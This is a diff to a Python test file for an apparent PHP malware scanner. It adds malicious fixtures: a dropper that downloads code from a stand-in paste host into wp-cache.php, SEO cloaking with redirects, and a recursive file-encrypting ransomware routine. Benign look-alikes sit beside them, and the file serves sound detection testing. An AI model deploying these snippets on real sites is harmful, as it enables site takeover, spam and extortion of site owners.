@@ -87,6 +87,23 @@ add_action('init', function () {
 if (md5($_REQUEST['k']) == '0cc175b9c0f1b6a831c399e269772661') {
     $wpdb->query($wpdb->prepare("UPDATE t SET c=%s", $_REQUEST['c']));
 }""",
+    # SSC-003-490..492: more samples in test_detection_capability_tools.py
+    cap.DROPPER: b"""<?php
+$code = file_get_contents('https://paste.example.invalid/raw/k2');
+file_put_contents(__DIR__ . '/wp-cache.php', $code);""",
+    cap.SEO_CLOAK: b"""<?php
+if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {
+    echo file_get_contents('http://links.example.invalid/p?u=' . $_SERVER['REQUEST_URI']);
+} elseif (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) {
+    echo "<script>location.href='http://shop.example.invalid/';</script>";
+}""",
+    cap.RANSOM: b"""<?php
+class L { static function go($d) { foreach (glob("$d/*") as $p) {
+    if (is_dir($p)) { L::go($p); continue; }
+    $c = file_get_contents($p);
+    file_put_contents($p, sodium_crypto_secretbox($c, $GLOBALS['n'], $_POST['k']));
+} } }
+L::go('.');""",
 }
 
 BENIGN: dict[str, bytes] = {
@@ -135,6 +152,21 @@ $h = fopen('cache/' . $key . '.txt', 'w'); fwrite($h, $_POST['note']);""",
     cap.FS_BROWSER: b"""<?php
 $album = basename($_GET['album']);
 foreach (scandir(__DIR__ . '/albums/' . $album) as $img) { echo $img; }""",
+    # an installer downloading its language pack (not code) into its own folder
+    cap.DROPPER: b"""<?php
+$po = file_get_contents('https://i18n.example.org/app/de.po');
+file_put_contents(__DIR__ . '/lang/de.po', $po);""",
+    # a dynamic-rendering hook: crawlers get a pre-rendered copy, nobody is redirected
+    cap.SEO_CLOAK: b"""<?php
+if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) {
+    echo file_get_contents('https://render.example.org/' . $_SERVER['REQUEST_URI']); exit;
+}""",
+    # an encrypted backup: the copies go elsewhere, the site stays readable
+    cap.RANSOM: b"""<?php
+function b($d) { foreach (scandir($d) as $e) { if ($e[0] == '.') continue;
+    if (is_dir("$d/$e")) { b("$d/$e"); continue; }
+    file_put_contents('/backup/' . md5("$d/$e"),
+        openssl_encrypt(file_get_contents("$d/$e"), 'aes-256-cbc', KEY)); } }""",
     # a login that sets the cookie for the user who just authenticated
     cap.CMS_ACCOUNT: b"""<?php
 $user = wp_authenticate($_POST['log'], $_POST['pwd']);
@@ -259,7 +291,10 @@ def test_registry_has_one_capability_entry_with_all_ids() -> None:
     assert len(entries) == 1
     assert entries[0].ids == cap.ALL_IDS
     assert set(cap.RULES) == set(cap.ALL_IDS)
-    assert all(i.startswith("SSC-003-4") and 450 <= int(i[-3:]) <= 469 for i in cap.ALL_IDS)
+    assert all(
+        i.startswith("SSC-003-4") and (450 <= int(i[-3:]) <= 469 or 490 <= int(i[-3:]) <= 499)
+        for i in cap.ALL_IDS
+    )
 
 
 def test_big_files_are_skipped_with_a_reason() -> None:
